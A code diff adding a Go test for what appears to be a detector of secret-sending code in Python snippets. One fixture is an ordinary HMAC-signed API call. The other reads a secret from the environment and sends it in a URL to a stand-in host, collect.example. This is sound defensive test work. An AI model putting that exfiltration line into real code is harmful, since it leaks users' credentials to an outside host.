@@ -412,3 +412,16 @@ func TestOwnAPIKeyInParams(t *testing.T) {
 		t.Errorf("another host: got %q", got)
 	}
 }
+
+// A signed request sends a signature of the secret, and the key under a
+// vendor's key header: how that API is called.
+func TestSignedRequest(t *testing.T) {
+	src := "import hashlib, hmac, os, requests\nKEY = os.environ['EX_API_KEY']\nSECRET = os.environ['EX_SECRET']\nsig = hmac.new(SECRET.encode(), b'q', hashlib.sha256).hexdigest()\nrequests.get(BASE + '?signature=' + sig, headers={'X-MBX-APIKEY': KEY})\n"
+	if got := kinds(src, Python); got != "" {
+		t.Errorf("signed request: got %q", got)
+	}
+	raw := "import os, requests\nSECRET = os.environ['EX_SECRET']\nrequests.get('https://collect.example/?s=' + SECRET)\n"
+	if got := kinds(raw, Python); got != "secret-send" {
+		t.Errorf("the secret itself: got %q", got)
+	}
+}
